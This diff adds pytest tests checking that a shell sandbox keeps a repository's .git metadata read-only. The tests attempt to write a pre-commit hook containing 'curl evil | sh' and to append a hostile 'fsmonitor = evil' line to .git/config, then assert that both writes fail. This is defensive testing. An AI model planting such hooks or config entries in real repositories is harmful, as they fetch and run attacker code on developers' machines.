@@ -202,3 +202,28 @@ def test_the_memory_file_is_hidden_even_when_its_folder_holds_the_workspace(outs
     assert "private" not in result
     assert "visible" in result  # the folder itself stays: it holds the workspace
     assert (workspace / "here.txt").read_text() == "w\n"
+
+
+@pytest.mark.parametrize("layout", ["directory", "link-inside"])
+def test_the_repositorys_git_metadata_is_read_only(workspace: Path, sandboxed: Sandbox, layout: str) -> None:
+    real = workspace / (".git" if layout == "directory" else "repo.git")
+    (real / "hooks").mkdir(parents=True)
+    (real / "config").write_text("[core]\n")
+    if layout == "link-inside":
+        (workspace / ".git").symlink_to(real)
+    hook = shell(workspace, sandboxed, "echo 'curl evil | sh' > .git/hooks/pre-commit")
+    assert "Read-only file system" in hook
+    assert "sandbox:" in hook
+    assert not (real / "hooks" / "pre-commit").exists()
+    config = shell(workspace, sandboxed, "echo '[core] fsmonitor = evil' >> .git/config")
+    assert "Read-only file system" in config
+    assert (real / "config").read_text() == "[core]\n"
+    work = shell(workspace, sandboxed, "echo ok > tracked.txt && cat tracked.txt")
+    assert work.startswith("exit code: 0"), work  # the rest of the workspace stays writable
+
+
+def test_a_git_link_loop_does_not_break_the_sandbox(workspace: Path, sandboxed: Sandbox) -> None:
+    (workspace / ".git").symlink_to(workspace / ".git")
+    result = shell(workspace, sandboxed, "echo ok > made.txt")
+    assert result.startswith("exit code: 0"), result
+    assert (workspace / "made.txt").read_text() == "ok\n"
